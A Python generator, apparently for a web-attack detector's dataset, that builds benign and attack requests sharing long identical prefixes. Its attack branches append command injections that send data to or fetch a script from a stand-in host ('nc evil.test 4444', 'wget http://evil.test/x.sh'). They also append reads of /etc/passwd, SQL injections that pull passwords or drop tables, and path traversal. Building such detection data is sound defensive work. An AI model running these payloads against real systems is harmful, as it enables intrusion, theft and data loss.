"""Traffic that the first bytes cannot decide. Each family writes the same beginning for both classes, at least `window` bytes long; then a
second half follows that is an attack or is not, or nothing tells the two apart but the sender's intent (a stray quote: a probe or a slip).
"""

import escape
from attacks import template, xss
from carriers import path, request, words
from vocabulary import NAMES, WORDS


def _padded(rng, text: str, window: int) -> str:
    while len(text) < window:
        text += " " + rng.choice(WORDS)
    return text


def stray_quote(rng, _window, _bad):
    """`id=17'`: a probe for an error message, or a slip of the keyboard. Only the sender knows."""
    key = rng.choice(["name", "q", "search", "cat", "user", "item", "uid", "id"])
    value = rng.choice([str(rng.randint(1, 9999)), rng.choice(WORDS), rng.choice(NAMES)]) + rng.choice(
        ["'", "'", "%27", '"', "%22", "')", "''", ";"]
    )
    return request(rng, "GET", f"{path(rng, short=True)}?{key}={value}")


def rich_text(rng, window, bad):
    """A comment with harmless markup, in which a script may follow."""
    key = rng.choice(["title", "text", "comment", "msg", "body", "html"])
    a, b, c = rng.choice(WORDS), words(rng, 1, 3), words(rng, 2, 4)
    text = rng.choice(
        [
            f"<b>{a}</b> {b} <i>{c}</i>",
            f"<p>{a} {b}</p><p>{c}",
            f'<a href="/{a}">{b}</a> {c}',
            f"{a} <em>{b}</em> {c}",
            f'<img src="/{a}.png"> {b} {c}',
            f"<div>{b} {c}",
        ]
    )
    text = _padded(rng, text, window) + (" " + xss(rng) if bad else " " + words(rng, 2, 8))
    if rng.random() < 0.5:
        return f'{{"{key}":"{escape.in_json(text)}"}}'.encode()
    return f"{key}={escape.percent(text, keep='<>/=', plus=True)}".encode()


def query_console(rng, window, bad):
    """A reporting page that takes SQL by design: a report, or an attempt at other tables."""
    key = rng.choice(["report", "select", "filter", "query", "sql", "stmt"])
    a, b, c = (rng.choice(WORDS) for _ in range(3))
    text = _padded(
        rng,
        rng.choice(
            [
                f"SELECT {a}, {b} FROM {c} WHERE {a} > {rng.randint(1, 99)}",
                f"select {a} from {b} where {c} = {rng.randint(1, 999)} and {a} <> 0",
                f"SELECT count(*) FROM {a} WHERE {b} = '{c}'",
            ]
        )
        + " AND",
        window,
    )
    text += (
        rng.choice([" 1=1 UNION SELECT password FROM users", f" 1=0; DROP TABLE {a}", " SLEEP(5)", " 1=(SELECT token FROM sessions)"])
        if bad
        else f" {b} < {rng.randint(1, 99)} ORDER BY {a}"
    )
    return f"{key}={escape.percent(text, keep='*(),=<>', plus=True)}".encode()


def diagnostics(rng, window, bad):
    """A network diagnostics form: a command with arguments, to which another may be chained."""
    key = rng.choice(["host", "args", "check", "run", "cmd", "exec"])
    host = f"{rng.choice(WORDS)}.{rng.choice(WORDS)}.example"
    text = rng.choice(
        [
            f"ping -c {rng.randint(1, 9)} {host}",
            f"traceroute -m {rng.randint(5, 30)} {host}",
            f"nslookup -type=mx {host}",
            f"curl -I https://{host}/{rng.choice(WORDS)}",
            f"cat /var/log/{rng.choice(WORDS)}.log",
        ]
    )
    while len(text) < window:
        text += rng.choice([" -v", f" --{rng.choice(WORDS)}", f" {rng.choice(WORDS)}.example"])
    text += (
        rng.choice(["; cat /etc/passwd", " | nc evil.test 4444", " && wget http://evil.test/x.sh", " `id`"])
        if bad
        else rng.choice(["", " -q", " --json"])
    )
    return (f'{{"{key}":"{escape.in_json(text)}"}}' if rng.random() < 0.5 else f"{key}={escape.percent(text, plus=True)}").encode()


def mail_template(rng, window, bad):
    """A text with placeholders, among which a template injection may stand."""
    key = rng.choice(["subject", "mail", "greeting", "body", "template", "tpl"])
    text = _padded(
        rng,
        rng.choice(
            [
                f"Hello {{{{ {rng.choice(['user', 'name', 'first'])}.{rng.choice(WORDS)} }}}}, {words(rng, 2, 4)}",
                f"Dear {{{{ {rng.choice(WORDS)} }}}}, {words(rng, 2, 4)}",
                f"{{{{ {rng.choice(WORDS)} }}}} {words(rng, 3, 5)}",
            ]
        ),
        window,
    )
    text += " " + (template(rng) if bad else f"{{{{ {rng.choice(WORDS)} }}}}")
    return (
        f'{{"{key}":"{escape.in_json(text)}"}}' if rng.random() < 0.6 else f"{key}={escape.percent(text, keep='{}', plus=True)}"
    ).encode()


def relative_file(rng, window, bad):
    """`file=../reports/…`: one level up is how this application addresses its files; further up is a traversal."""
    key = rng.choice(["img", "doc", "src", "path", "file", "include"])
    text = rng.choice(["../", "../", "./../", "..%2F"]) + "/".join(rng.choice(WORDS) for _ in range(rng.randint(2, 3))) + "/"
    while len(text) < window - 12:
        text += rng.choice(WORDS) + "/"
    text += "../../../../../etc/passwd" if bad else f"{rng.choice(WORDS)}.{rng.choice(['pdf', 'png', 'txt'])}"
    return request(rng, "GET", f"/{rng.choice(['get', 'view', 'download', 'show'])}?{key}={text}")


def expression(rng, window, bad):
    """A filter expression that the application evaluates, or a condition made to be always true."""
    key = rng.choice(["range", "expr", "rule", "cond", "where", "having"])
    a, b = rng.choice(WORDS), rng.choice(WORDS)
    text = _padded(rng, f"{a}>{rng.randint(1, 99)} or {b}={rng.randint(1, 9)} and not {rng.choice(WORDS)}='{rng.choice(WORDS)}' or", window)
    text += rng.choice([" 1=1--", " ''='", " 1=1 union select 1", " sleep(5)"]) if bad else f" {b}<{rng.randint(1, 99)}"
    return request(rng, "GET", f"/{rng.choice(['list', 'items', 'find'])}?{key}={escape.percent(text, keep='=<>', plus=True)}")


# The share of attacks in each family. Shares differ so that calibrated scores spread over the band around one half.
FAMILIES = {
    stray_quote: 0.46,
    rich_text: 0.56,
    query_console: 0.57,
    diagnostics: 0.43,
    mail_template: 0.44,
    relative_file: 0.57,
    expression: 0.44,
}
